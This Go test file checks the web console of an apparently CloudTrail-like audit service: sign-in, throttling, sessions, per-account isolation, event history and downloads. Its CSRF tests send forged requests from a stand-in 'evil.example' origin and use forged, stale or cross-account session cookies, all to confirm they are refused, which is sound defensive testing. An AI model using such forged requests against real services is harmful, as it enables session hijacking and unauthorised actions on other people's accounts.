package console

import (
	"context"
	"crypto/tls"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cairn-audit/cairn/internal/apiserver"
	"github.com/cairn-audit/cairn/internal/audit"
	"github.com/cairn-audit/cairn/internal/audit/audittest"
	"github.com/cairn-audit/cairn/internal/awsjson"
	"github.com/cairn-audit/cairn/internal/insights"
)

// Two accounts, one key each.
const (
	keyA, secretA, acctA = "AKIAALICE00000000001", "alice-secret-key", "111111111111"
	keyB, secretB, acctB = "AKIABOB0000000000001", "bob-secret-key", "222222222222"
)

type testKeys struct{}

func (testKeys) Secret(id string) (string, bool) {
	switch id {
	case keyA:
		return secretA, true
	case keyB:
		return secretB, true
	}
	return "", false
}

func (testKeys) Principal(id string) (audit.Principal, bool) {
	acct, user := acctA, "alice"
	switch id {
	case keyA:
	case keyB:
		acct, user = acctB, "bob"
	default:
		return audit.Principal{}, false
	}
	return audit.Principal{AccountID: acct, UserName: user, ARN: "arn:aws:iam::" + acct + ":user/" + user,
		PrincipalID: "AIDA" + acct, AccessKeyID: id}, true
}

// noAuth refuses every signed call: the tests reach the API through the
// console only.
type noAuth struct{}

func (noAuth) Authenticate(*http.Request, []byte) (apiserver.Caller, error) {
	return apiserver.Caller{}, &awsjson.Error{Code: "MissingAuthenticationTokenException", Message: "Missing Authentication Token", Status: 403}
}

// syncRecorder stores records at once.
type syncRecorder struct{ st *audittest.MemStore }

func (s syncRecorder) Submit(ctx context.Context, rs ...audit.Record) (audit.AppendResult, error) {
	return s.st.Append(ctx, rs)
}
func (s syncRecorder) Enqueue(ctx context.Context, rs ...audit.Record) error {
	_, err := s.st.Append(ctx, rs)
	return err
}
func (s syncRecorder) Commit(ctx context.Context, rs ...audit.Record) error {
	_, err := s.st.Append(ctx, rs)
	return err
}
func (syncRecorder) Admit(string, bool) (func(), error) { return func() {}, nil }

// clock is a settable time.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) add(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

type harness struct {
	srv     *httptest.Server
	st      *audittest.MemStore
	con     *Console
	clock   *clock
	handled map[string]int // trail operations the API served, by name
	mu      sync.Mutex
}

// newHarness serves the console and the API as cairn serve does, over a
// MemStore, with a StopLogging/StartLogging/DescribeTrails that record
// what they were asked.
func newHarness(t testing.TB, cfg Config) *harness {
	t.Helper()
	h := &harness{st: audittest.NewMemStore(), clock: &clock{t: time.Now().UTC()}, handled: map[string]int{}}
	logging := func(ctx context.Context, req *apiserver.Request) (any, error) {
		h.mu.Lock()
		h.handled[req.Operation+" "+req.Caller.AccountID]++
		h.mu.Unlock()
		return map[string]any{}, nil
	}
	api := apiserver.New(apiserver.Config{Auth: noAuth{}, History: h.st, Recorder: syncRecorder{h.st},
		TokenKey: []byte("0123456789abcdef0123456789abcdef"),
		Handlers: map[string]apiserver.Handler{
			"StopLogging": logging, "StartLogging": logging,
			"DescribeTrails": func(ctx context.Context, req *apiserver.Request) (any, error) {
				return map[string]any{"trailList": []map[string]any{{"Name": "t-" + req.Caller.AccountID,
					"TrailARN": "arn:aws:cloudtrail:us-east-1:" + req.Caller.AccountID + ":trail/t", "HomeRegion": "us-east-1"}}}, nil
			},
			"GetTrailStatus": func(ctx context.Context, req *apiserver.Request) (any, error) {
				return map[string]any{"IsLogging": true}, nil
			},
		}})
	cfg.API, cfg.Keys = api, testKeys{}
	if cfg.Recorder == nil {
		cfg.Recorder = syncRecorder{h.st}
	}
	if cfg.Now == nil {
		cfg.Now = h.clock.now
	}
	h.con = New(cfg)
	mux := http.NewServeMux()
	mux.Handle(Prefix, h.con)
	mux.Handle("/", RedirectBrowsers(api))
	h.srv = httptest.NewServer(mux)
	t.Cleanup(h.srv.Close)
	return h
}

// browser is a client with its own cookies that does not follow redirects.
func (h *harness) browser(t testing.TB) *http.Client {
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

func get(t testing.TB, c *http.Client, u string) (int, string, http.Header) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

func post(t testing.TB, c *http.Client, u string, form url.Values, hdr map[string]string) (int, string, http.Header) {
	t.Helper()
	req, _ := http.NewRequest("POST", u, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

// signIn signs c in with key and secret; it returns the status.
func (h *harness) signIn(t testing.TB, c *http.Client, key, secret string) int {
	t.Helper()
	_, body, _ := get(t, c, h.srv.URL+Prefix+"signin")
	m := csrfRE.FindStringSubmatch(body)
	if m == nil {
		t.Fatal("sign-in form without a csrf token")
	}
	code, _, _ := post(t, c, h.srv.URL+Prefix+"signin", url.Values{"csrf": {m[1]}, "access_key_id": {key},
		"secret_access_key": {secret}, "region": {"us-east-1"}}, nil)
	return code
}

// sessionCSRF returns the CSRF token of c's session (from a page).
func (h *harness) sessionCSRF(t *testing.T, c *http.Client) string {
	t.Helper()
	_, body, _ := get(t, c, h.srv.URL+Prefix+"events?region=us-east-1")
	m := csrfRE.FindStringSubmatch(body)
	if m == nil {
		t.Fatal("page without the sign-out form's csrf token")
	}
	return m[1]
}

// records returns the stored records of account and event name.
func (h *harness) records(t *testing.T, account, name string) []map[string]any {
	t.Helper()
	q := audit.Query{Account: account, Region: "us-east-1", Category: audit.CategoryManagement, Limit: 1000,
		Attributes: []audit.Attribute{{Key: audit.AttrEventName, Value: name}}}
	pg, err := h.st.Lookup(context.Background(), q)
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]any
	for _, r := range pg.Records {
		var m map[string]any
		if err := json.Unmarshal(r.Raw, &m); err != nil {
			t.Fatal(err)
		}
		out = append(out, m)
	}
	return out
}

func seed(t testing.TB, st *audittest.MemStore, account, region string, n int, at time.Time, name string, readOnly bool) []string {
	t.Helper()
	var ids []string
	var rs []audit.Record
	for i := range n {
		id := fmt.Sprintf("%s-%s-%s-%d-%04d", account, region, name, at.Unix(), i)
		raw := fmt.Sprintf(`{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"u%s","accountId":%q,"accessKeyId":"AKIASEED"},"eventTime":%q,"eventSource":"s3.amazonaws.com","eventName":%q,"awsRegion":%q,"sourceIPAddress":"203.0.113.%d","eventID":%q,"readOnly":%t,"eventType":"AwsApiCall","recipientAccountId":%q,"resources":[{"ARN":"arn:aws:s3:::b%d","type":"AWS::S3::Bucket"}]}`,
			account, account, audit.FormatTime(at.Add(-time.Duration(i)*time.Second)), name, region, i%250, id, readOnly, account, i)
		r, err := audit.Extract([]byte(raw))
		if err != nil {
			t.Fatal(err)
		}
		rs = append(rs, r)
		ids = append(ids, id)
	}
	if _, err := st.Append(context.Background(), rs); err != nil {
		t.Fatal(err)
	}
	return ids
}

var eventIDRE = regexp.MustCompile(`data-event-id="([^"]+)"`)

func eventIDs(body string) []string {
	var ids []string
	for _, m := range eventIDRE.FindAllStringSubmatch(body, -1) {
		ids = append(ids, m[1])
	}
	return ids
}

func TestSignIn(t *testing.T) {
	h := newHarness(t, Config{})
	t.Run("success", func(t *testing.T) {
		c := h.browser(t)
		_, body, _ := get(t, c, h.srv.URL+Prefix+"signin")
		token := csrfRE.FindStringSubmatch(body)[1]
		code, _, hdr := post(t, c, h.srv.URL+Prefix+"signin", url.Values{"csrf": {token}, "access_key_id": {keyA},
			"secret_access_key": {secretA}, "region": {"us-east-1"}}, map[string]string{"User-Agent": "test-browser/1"})
		if code != http.StatusSeeOther || hdr.Get("Location") != Prefix+"events?region=us-east-1" {
			t.Fatalf("sign-in = %d to %q; want 303 to the events", code, hdr.Get("Location"))
		}
		var ck *http.Cookie
		for _, k := range (&http.Response{Header: hdr}).Cookies() {
			if k.Name == sessionCookie {
				ck = k
			}
		}
		if ck == nil || !ck.HttpOnly || ck.SameSite != http.SameSiteStrictMode || ck.Secure || ck.Path != Prefix || ck.MaxAge <= 0 {
			t.Errorf("session cookie = %+v; want HttpOnly, SameSite=Strict, not Secure over http, Path %s, Max-Age", ck, Prefix)
		}
		recs := h.records(t, acctA, "ConsoleLogin")
		if len(recs) != 1 {
			t.Fatalf("%d ConsoleLogin records; want 1", len(recs))
		}
		r := recs[0]
		want := map[string]any{"eventSource": "signin.amazonaws.com", "eventType": "AwsConsoleSignIn", "readOnly": false,
			"responseElements": map[string]any{"ConsoleLogin": "Success"}, "userAgent": "test-browser/1", "recipientAccountId": acctA,
			"sourceIPAddress": "127.0.0.1", "eventCategory": "Management", "managementEvent": true}
		for k, v := range want {
			if fmt.Sprint(r[k]) != fmt.Sprint(v) {
				t.Errorf("ConsoleLogin %s = %v; want %v", k, r[k], v)
			}
		}
		if aed, _ := r["additionalEventData"].(map[string]any); aed["MFAUsed"] != "No" {
			t.Errorf("additionalEventData = %v; want MFAUsed No", r["additionalEventData"])
		}
		if id, _ := r["userIdentity"].(map[string]any); id["userName"] != "alice" || id["accessKeyId"] != nil {
			t.Errorf("userIdentity = %v; want alice without an access key", id)
		}
		if _, ok := r["errorMessage"]; ok {
			t.Errorf("a success has errorMessage %v", r["errorMessage"])
		}
	})
	for _, tc := range []struct {
		name, key, secret string
		recorded          bool
	}{
		{"wrong secret", keyA, "not-the-secret", true},
		{"empty secret", keyA, "", true},
		{"other account's secret", keyA, secretB, true},
		{"secret with a suffix", keyA, secretA + "x", true},
		{"unknown key", "AKIAUNKNOWN000000000", secretA, false},
		{"empty key", "", secretA, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := len(h.records(t, acctA, "ConsoleLogin"))
			c := h.browser(t)
			if code := h.signIn(t, c, tc.key, tc.secret); code != http.StatusUnauthorized {
				t.Fatalf("sign-in = %d; want 401", code)
			}
			if code, _, _ := get(t, c, h.srv.URL+Prefix+"events"); code != http.StatusSeeOther {
				t.Errorf("events after a failed sign-in = %d; want 303 to the sign-in", code)
			}
			recs := h.records(t, acctA, "ConsoleLogin")
			if !tc.recorded {
				if len(recs) != before {
					t.Errorf("an unknown key's attempt was recorded in %s", acctA)
				}
				return
			}
			if len(recs) != before+1 {
				t.Fatalf("%d ConsoleLogin records; want %d", len(recs), before+1)
			}
			failures := 0
			for _, r := range recs {
				if fmt.Sprint(r["responseElements"]) == fmt.Sprint(map[string]any{"ConsoleLogin": "Failure"}) {
					failures++
					if r["errorMessage"] != "Failed authentication" || r["errorCode"] != nil {
						t.Errorf("failure record: errorMessage %v, errorCode %v", r["errorMessage"], r["errorCode"])
					}
				}
			}
			if failures != before { // before counts the one success
				t.Errorf("%d failure records; want %d", failures, before)
			}
		})
	}
	t.Run("secure over TLS", func(t *testing.T) {
		w := httptest.NewRecorder()
		r := httptest.NewRequest("GET", Prefix+"signin", nil)
		r.TLS = &tls.ConnectionState{}
		h.con.ServeHTTP(w, r)
		for _, k := range w.Result().Cookies() {
			if !k.Secure || !k.HttpOnly || k.SameSite != http.SameSiteStrictMode {
				t.Errorf("cookie %s over TLS = %+v; want Secure, HttpOnly, Strict", k.Name, k)
			}
		}
	})
}

// TestSignInForm: the sign-in POST needs its form's token, bound to a
// cookie, from this origin (login CSRF).
func TestSignInForm(t *testing.T) {
	h := newHarness(t, Config{})
	for _, tc := range []struct {
		name   string
		token  func(string) string
		cookie bool
		origin string
	}{
		{"no token", func(string) string { return "" }, true, ""},
		{"other token", func(string) string { return randomToken() }, true, ""},
		{"no cookie", func(s string) string { return s }, false, ""},
		{"other origin", func(s string) string { return s }, true, "http://evil.example"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := h.browser(t)
			_, body, _ := get(t, c, h.srv.URL+Prefix+"signin")
			tok := csrfRE.FindStringSubmatch(body)[1]
			if !tc.cookie {
				jar, _ := cookiejar.New(nil)
				c.Jar = jar
			}
			hdr := map[string]string{}
			if tc.origin != "" {
				hdr["Origin"] = tc.origin
			}
			code, _, _ := post(t, c, h.srv.URL+Prefix+"signin", url.Values{"csrf": {tc.token(tok)}, "access_key_id": {keyA},
				"secret_access_key": {secretA}}, hdr)
			if code != http.StatusForbidden {
				t.Errorf("sign-in = %d; want 403", code)
			}
		})
	}
	if n := len(h.records(t, acctA, "ConsoleLogin")); n != 0 {
		t.Errorf("%d ConsoleLogin records from refused forms; want 0", n)
	}
}

func TestSignInThrottled(t *testing.T) {
	h := newHarness(t, Config{KeyFailures: 3, IPFailures: 5, FailureWindow: time.Minute})
	c := h.browser(t)
	for i := range 3 {
		if code := h.signIn(t, c, keyA, "wrong"); code != http.StatusUnauthorized {
			t.Fatalf("failure %d = %d; want 401", i, code)
		}
	}
	recorded := len(h.records(t, acctA, "ConsoleLogin"))
	if code := h.signIn(t, c, keyA, secretA); code != http.StatusTooManyRequests {
		t.Errorf("right secret after 3 failures of the key = %d; want 429", code)
	}
	if n := len(h.records(t, acctA, "ConsoleLogin")); n != recorded {
		t.Errorf("a throttled attempt was recorded (%d records, were %d)", n, recorded)
	}
	// The address: two more failures with other keys reach its 5.
	h.signIn(t, c, keyB, "wrong")
	h.signIn(t, c, "AKIAUNKNOWN000000000", "wrong")
	if code := h.signIn(t, c, keyB, secretB); code != http.StatusTooManyRequests {
		t.Errorf("another key from an address with 5 failures = %d; want 429", code)
	}
	h.clock.add(time.Minute)
	if code := h.signIn(t, c, keyA, secretA); code != http.StatusSeeOther {
		t.Errorf("after the window = %d; want 303", code)
	}
}

func TestSessionExpiry(t *testing.T) {
	h := newHarness(t, Config{SessionIdle: 10 * time.Minute, SessionMax: 30 * time.Minute})
	c := h.browser(t)
	h.signIn(t, c, keyA, secretA)
	for i := range 3 { // used every 9 minutes: alive until the absolute limit
		h.clock.add(9 * time.Minute)
		if code, _, _ := get(t, c, h.srv.URL+Prefix+"events"); code != http.StatusOK {
			t.Fatalf("events after %d minutes of use = %d; want 200", 9*(i+1), code)
		}
	}
	h.clock.add(9 * time.Minute) // 36 minutes after the sign-in
	if code, _, _ := get(t, c, h.srv.URL+Prefix+"events"); code != http.StatusSeeOther {
		t.Errorf("events after the absolute limit = %d; want 303 to the sign-in", code)
	}
	h.signIn(t, c, keyA, secretA)
	h.clock.add(10 * time.Minute)
	if code, _, _ := get(t, c, h.srv.URL+Prefix+"events"); code != http.StatusSeeOther {
		t.Errorf("events after 10 idle minutes = %d; want 303 to the sign-in", code)
	}
}

func TestSessionCap(t *testing.T) {
	h := newHarness(t, Config{MaxSessions: 2})
	a, b, c := h.browser(t), h.browser(t), h.browser(t)
	h.signIn(t, a, keyA, secretA)
	h.clock.add(time.Second)
	h.signIn(t, b, keyA, secretA)
	h.clock.add(time.Second)
	get(t, a, h.srv.URL+Prefix+"events") // a used: b is the least recently used
	h.clock.add(time.Second)
	h.signIn(t, c, keyB, secretB)
	if n := h.con.sessions.len(); n != 2 {
		t.Errorf("%d sessions; want the cap, 2", n)
	}
	for name, want := range map[*http.Client]int{a: 200, b: 303, c: 200} {
		if code, _, _ := get(t, name, h.srv.URL+Prefix+"events"); code != want {
			t.Errorf("events = %d; want %d", code, want)
		}
	}
}

// TestCSRF: a state-changing request is refused without its session's
// token: missing, stale (a signed-out session's), another session's,
// another account's cookie with one's own token, a forged cookie, or from
// another origin. None reaches the API.
func TestCSRF(t *testing.T) {
	h := newHarness(t, Config{})
	alice, bob := h.browser(t), h.browser(t)
	h.signIn(t, alice, keyA, secretA)
	h.signIn(t, bob, keyB, secretB)
	aliceToken, bobToken := h.sessionCSRF(t, alice), h.sessionCSRF(t, bob)
	old := h.browser(t)
	h.signIn(t, old, keyA, secretA)
	staleToken := h.sessionCSRF(t, old)
	if code, _, _ := post(t, old, h.srv.URL+Prefix+"signout", url.Values{"csrf": {staleToken}}, nil); code != http.StatusSeeOther {
		t.Fatalf("sign-out = %d; want 303", code)
	}
	u, _ := url.Parse(h.srv.URL + Prefix)
	bobCookie := bob.Jar.Cookies(u)
	stop := func(token string) url.Values {
		return url.Values{"csrf": {token}, "region": {"us-east-1"}, "name": {"t"}, "action": {"stop"}}
	}
	forged := func(value string) *http.Client {
		c := h.browser(t)
		c.Jar.SetCookies(u, []*http.Cookie{{Name: sessionCookie, Value: value, Path: Prefix}})
		return c
	}
	for _, tc := range []struct {
		name   string
		client *http.Client
		form   url.Values
		hdr    map[string]string
	}{
		{"missing token", alice, url.Values{"region": {"us-east-1"}, "name": {"t"}, "action": {"stop"}}, nil},
		{"empty token", alice, stop(""), nil},
		{"stale token", alice, stop(staleToken), nil},
		{"another session's token", alice, stop(bobToken), nil},
		{"token in the query", alice, stop(""), nil},
		{"other origin", alice, stop(aliceToken), map[string]string{"Origin": "http://evil.example"}},
		{"signed-out cookie", old, stop(staleToken), nil},
		{"forged cookie", forged(randomToken()), stop(aliceToken), nil},
		{"forged hash as cookie", forged(hashToken("x")), stop(aliceToken), nil},
		{"another account's cookie, own token", func() *http.Client {
			c := h.browser(t)
			c.Jar.SetCookies(u, bobCookie)
			return c
		}(), stop(aliceToken), nil},
	} {
		for _, path := range []string{"trails/logging", "trails/create", "trails/delete", "lake/run", "lake/create", "lake/protect", "lake/delete", "signout"} {
			t.Run(tc.name+" "+path, func(t *testing.T) {
				target := h.srv.URL + Prefix + path
				if tc.name == "token in the query" {
					target += "?csrf=" + url.QueryEscape(aliceToken)
				}
				form := url.Values{}
				for k, v := range tc.form {
					form[k] = v
				}
				form.Set("statement", "SELECT 1")
				code, _, _ := post(t, tc.client, target, form, tc.hdr)
				if code != http.StatusForbidden {
					t.Errorf("POST %s = %d; want 403", path, code)
				}
			})
		}
	}
	if len(h.handled) != 0 {
		t.Errorf("refused requests reached the API: %v", h.handled)
	}
	if code, _, _ := post(t, alice, h.srv.URL+Prefix+"trails/logging", stop(aliceToken), nil); code != http.StatusSeeOther {
		t.Errorf("StopLogging with the session's token = %d; want 303", code)
	}
	if h.handled["StopLogging "+acctA] != 1 || len(h.handled) != 1 {
		t.Errorf("API served %v; want one StopLogging of %s", h.handled, acctA)
	}
	// The StopLogging is recorded as the API call the console made.
	recs := h.records(t, acctA, "StopLogging")
	if len(recs) != 1 || recs[0]["sessionCredentialFromConsole"] != "true" || recs[0]["userAgent"] != UserAgent || recs[0]["readOnly"] != false {
		t.Errorf("StopLogging records = %v; want one from the console", recs)
	}
	// Sign-out with a stale token does not end the session.
	if code, _, _ := post(t, alice, h.srv.URL+Prefix+"signout", url.Values{"csrf": {staleToken}}, nil); code != http.StatusForbidden {
		t.Errorf("sign-out with a stale token = %d; want 403", code)
	}
	if code, _, _ := get(t, alice, h.srv.URL+Prefix+"events"); code != http.StatusOK {
		t.Errorf("events after a refused sign-out = %d; want 200", code)
	}
}

// TestIsolation: a session sees its key's account only, in any region,
// through every page.
func TestIsolation(t *testing.T) {
	h := newHarness(t, Config{})
	now := h.clock.now()
	idsA := seed(t, h.st, acctA, "us-east-1", 5, now.Add(-time.Hour), "PutObject", false)
	idsB := seed(t, h.st, acctB, "us-east-1", 5, now.Add(-time.Hour), "PutObject", false)
	idsBW := seed(t, h.st, acctB, "eu-west-1", 3, now.Add(-time.Hour), "PutObject", false)
	alice := h.browser(t)
	h.signIn(t, alice, keyA, secretA)
	for _, region := range []string{"us-east-1", "eu-west-1"} {
		_, body, _ := get(t, alice, h.srv.URL+Prefix+"events?region="+region)
		ids := eventIDs(body)
		for _, id := range ids {
			if slices.Contains(idsB, id) || slices.Contains(idsBW, id) {
				t.Errorf("alice's Event History in %s shows bob's %s", region, id)
			}
		}
		if region == "us-east-1" && !slices.Contains(ids, idsA[0]) {
			t.Errorf("alice's Event History does not show her %s", idsA[0])
		}
		for _, format := range []string{"json", "csv"} {
			_, body, _ := get(t, alice, h.srv.URL+Prefix+"events/download?format="+format+"&region="+region)
			for _, id := range append(idsB, idsBW...) {
				if strings.Contains(body, id) {
					t.Errorf("alice's %s download in %s holds bob's %s", format, region, id)
				}
			}
		}
	}
	for _, id := range []string{idsB[0], idsBW[0]} {
		for _, region := range []string{"us-east-1", "eu-west-1"} {
			code, body, _ := get(t, alice, h.srv.URL+Prefix+"event?region="+region+"&id="+url.QueryEscape(id))
			if code != http.StatusNotFound || strings.Contains(body, `id="event-record"`) || strings.Contains(body, "s3.amazonaws.com") {
				t.Errorf("alice opening bob's %s in %s = %d; want 404 without the record", id, region, code)
			}
		}
	}
	_, body, _ := get(t, alice, h.srv.URL+Prefix+"trails?region=us-east-1")
	if strings.Contains(body, acctB) || !strings.Contains(body, "t-"+acctA) {
		t.Errorf("alice's trails page shows another account's trails or not hers")
	}
	if code, _, _ := get(t, h.browser(t), h.srv.URL+Prefix+"events/download?format=json&region=us-east-1"); code != http.StatusSeeOther {
		t.Errorf("a download without a session = %d; want 303 to the sign-in", code)
	}
}

func TestEventHistory(t *testing.T) {
	h := newHarness(t, Config{})
	now := h.clock.now()
	writes := seed(t, h.st, acctA, "us-east-1", 70, now.Add(-2*time.Hour), "PutObject", false)
	seed(t, h.st, acctA, "us-east-1", 30, now.Add(-30*time.Minute), "GetObject", true)
	old := seed(t, h.st, acctA, "us-east-1", 4, now.Add(-48*time.Hour), "DeleteObject", false)
	c := h.browser(t)
	h.signIn(t, c, keyA, secretA)

	t.Run("filter and pages", func(t *testing.T) {
		u := h.srv.URL + Prefix + "events?region=us-east-1&k=EventName&v=PutObject&k=ReadOnly&v=false"
		var got []string
		for page := 0; u != ""; page++ {
			code, body, _ := get(t, c, u)
			if code != http.StatusOK {
				t.Fatalf("page %d = %d", page, code)
			}
			if page == 0 && (!strings.Contains(body, `id="event-filter"`) || !strings.Contains(body, `id="download-csv"`) || !strings.Contains(body, `id="download-json"`)) {
				t.Error("the page lacks the filter form's or the downloads' ids")
			}
			got = append(got, eventIDs(body)...)
			m := regexp.MustCompile(`href="([^"]+)" id="page-next"`).FindStringSubmatch(body)
			u = ""
			if m != nil {
				next := strings.ReplaceAll(m[1], "&amp;", "&")
				if !strings.Contains(next, "k=EventName") || !strings.Contains(next, "v=PutObject") {
					t.Errorf("next page %q lost the filter", next)
				}
				u = h.srv.URL + next
			}
		}
		if !slices.Equal(got, writes) {
			t.Errorf("PutObject ReadOnly=false pages = %d events; want the %d newest first", len(got), len(writes))
		}
	})
	t.Run("time preset", func(t *testing.T) {
		_, body, _ := get(t, c, h.srv.URL+Prefix+"events?region=us-east-1&k=EventName&v=DeleteObject&range=1d")
		if ids := eventIDs(body); len(ids) != 0 {
			t.Errorf("last day shows %d two-day-old events", len(ids))
		}
		_, body, _ = get(t, c, h.srv.URL+Prefix+"events?region=us-east-1&k=EventName&v=DeleteObject&range=7d")
		if ids := eventIDs(body); !slices.Equal(ids, old) {
			t.Errorf("last 7 days = %v; want %v", ids, old)
		}
	})
	t.Run("absolute times", func(t *testing.T) {
		start := now.Add(-49 * time.Hour).Format(localTime)
		end := now.Add(-47 * time.Hour).Format(localTime)
		_, body, _ := get(t, c, h.srv.URL+Prefix+"events?region=us-east-1&range=custom&start="+start+"&end="+end)
		if ids := eventIDs(body); !slices.Equal(ids, old) {
			t.Errorf("custom range = %v; want %v", ids, old)
		}
	})
	t.Run("hostile filters", func(t *testing.T) {
		for _, q := range []string{"k=Nope&v=x", "k=ReadOnly&v=maybe", "range=custom&start=yesterday", "range=5y",
			"range=custom&start=2030-01-01T00:00&end=2020-01-01T00:00", "token=forged", "region=" + strings.Repeat("x", 300),
			"k=EventName&v=" + strings.Repeat("%E2%82%AC", 3000)} {
			code, body, _ := get(t, c, h.srv.URL+Prefix+"events?"+q)
			if code == http.StatusOK && strings.Contains(body, `class="error"`) || code >= 500 {
				t.Errorf("events?%.60s = %d", q, code)
			}
			if code != http.StatusOK && !strings.Contains(body, `id="page-error"`) {
				t.Errorf("events?%.60s = %d without an error message", q, code)
			}
		}
	})
	t.Run("record", func(t *testing.T) {
		code, body, _ := get(t, c, h.srv.URL+Prefix+"event?region=us-east-1&id="+writes[3])
		if code != http.StatusOK || !strings.Contains(body, `id="event-record"`) || !strings.Contains(body, "&#34;eventID&#34;: &#34;"+writes[3]) {
			t.Errorf("record page = %d, without the formatted record", code)
		}
	})
	t.Run("console calls recorded", func(t *testing.T) {
		recs := h.records(t, acctA, "LookupEvents")
		if len(recs) == 0 {
			t.Fatal("no LookupEvents records from the console")
		}
		for _, r := range recs {
			id, _ := r["userIdentity"].(map[string]any)
			if r["sessionCredentialFromConsole"] != "true" || r["userAgent"] != UserAgent || id["accessKeyId"] != keyA || r["tlsDetails"] != nil {
				t.Fatalf("console LookupEvents record = %v", r)
			}
		}
	})
}

func TestDownload(t *testing.T) {
	h := newHarness(t, Config{})
	now := h.clock.now()
	ids := seed(t, h.st, acctA, "eu-west-1", 123, now.Add(-time.Hour), "PutObject", false)
	seed(t, h.st, acctA, "eu-west-1", 10, now.Add(-time.Hour), "GetObject", true)
	c := h.browser(t)
	h.signIn(t, c, keyA, secretA)
	q := "region=eu-west-1&k=EventName&v=PutObject"
	code, body, hdr := get(t, c, h.srv.URL+Prefix+"events/download?format=json&"+q)
	if code != 200 || !strings.Contains(hdr.Get("Content-Disposition"), "attachment") {
		t.Fatalf("JSON download = %d, %q", code, hdr.Get("Content-Disposition"))
	}
	var doc struct{ Records []json.RawMessage }
	if err := json.Unmarshal([]byte(body), &doc); err != nil {
		t.Fatalf("JSON download is not JSON: %v", err)
	}
	if len(doc.Records) != len(ids) {
		t.Fatalf("JSON download has %d records; want %d (all pages)", len(doc.Records), len(ids))
	}
	for i, r := range doc.Records {
		stored, _ := h.st.Lookup(context.Background(), audit.Query{Account: acctA, Region: "eu-west-1", Category: audit.CategoryManagement,
			Limit: 1, Attributes: []audit.Attribute{{Key: audit.AttrEventID, Value: ids[i]}}})
		if len(stored.Records) != 1 || string(stored.Records[0].Raw) != string(r) {
			t.Fatalf("JSON record %d is not the stored record %s byte for byte", i, ids[i])
		}
	}
	code, body, _ = get(t, c, h.srv.URL+Prefix+"events/download?format=csv&"+q)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil {
		t.Fatalf("CSV download = %d, %v", code, err)
	}
	if !slices.Equal(rows[0], csvHeader()) || len(rows) != len(ids)+1 {
		t.Fatalf("CSV = header %v and %d rows; want %d", rows[0], len(rows)-1, len(ids))
	}
	if r := rows[1]; r[0] != ids[0] || r[3] != "PutObject" || r[5] != "AWS::S3::Bucket" || r[8] != "eu-west-1" || r[11] != "false" {
		t.Errorf("CSV row = %v", r)
	}
	for _, bad := range []string{"format=xml&" + q, "format=csv&range=custom&start=yesterday&" + q, "format=json&range=9y&" + q,
		"format=json&k=Nope&v=x&" + q} {
		if code, body, _ := get(t, c, h.srv.URL+Prefix+"events/download?"+bad); code != http.StatusBadRequest || !strings.Contains(body, `id="page-error"`) {
			t.Errorf("download?%s = %d; want 400 with the error", bad, code)
		}
	}
}

func TestRedirectBrowsers(t *testing.T) {
	h := newHarness(t, Config{})
	c := h.browser(t)
	for _, tc := range []struct {
		name, method, path string
		hdr                map[string]string
		console            bool
	}{
		{"browser", "GET", "/", map[string]string{"Accept": "text/html,application/xhtml+xml"}, true},
		{"no Accept", "GET", "/", nil, false},
		{"JSON client", "GET", "/", map[string]string{"Accept": "application/json"}, false},
		{"signed", "GET", "/", map[string]string{"Accept": "text/html", "Authorization": "AWS4-HMAC-SHA256 Credential=x"}, false},
		{"presigned", "GET", "/?X-Amz-Signature=abc", map[string]string{"Accept": "text/html"}, false},
		{"POST", "POST", "/", map[string]string{"Accept": "text/html"}, false},
		{"other path", "GET", "/x", map[string]string{"Accept": "text/html"}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest(tc.method, h.srv.URL+tc.path, nil)
			for k, v := range tc.hdr {
				req.Header.Set(k, v)
			}
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			redirected := resp.StatusCode == http.StatusFound && resp.Header.Get("Location") == Prefix
			if redirected != tc.console {
				t.Errorf("%s %s = %d %q; want redirected %v", tc.method, tc.path, resp.StatusCode, resp.Header.Get("Location"), tc.console)
			}
			if !tc.console && resp.Header.Get("Content-Type") != "application/x-amz-json-1.1" {
				t.Errorf("API answer of type %q", resp.Header.Get("Content-Type"))
			}
		})
	}
}

func TestPagesRender(t *testing.T) {
	h := newHarness(t, Config{})
	c := h.browser(t)
	if code, body, hdr := get(t, c, h.srv.URL+Prefix+"signin"); code != 200 || !strings.Contains(hdr.Get("Content-Security-Policy"), "default-src 'none'") ||
		!strings.Contains(body, `<label for="access_key_id">`) {
		t.Errorf("sign-in page = %d, CSP %q", code, hdr.Get("Content-Security-Policy"))
	}
	for _, p := range []string{"static/console.css", "static/console.js"} {
		if code, _, _ := get(t, c, h.srv.URL+Prefix+p); code != 200 {
			t.Errorf("%s = %d", p, code)
		}
	}
	h.signIn(t, c, keyA, secretA)
	for _, p := range []string{"", "events", "trails", "event?id=nope"} {
		code, body, _ := get(t, c, h.srv.URL+Prefix+p)
		if code >= 500 || strings.Contains(body, "could not be rendered") || regexp.MustCompile(`(?i)https?://(?:[a-z0-9-]+\.)+[a-z]{2,}/`).MatchString(body) {
			t.Errorf("%s = %d, or names an external resource", p, code)
		}
	}
}
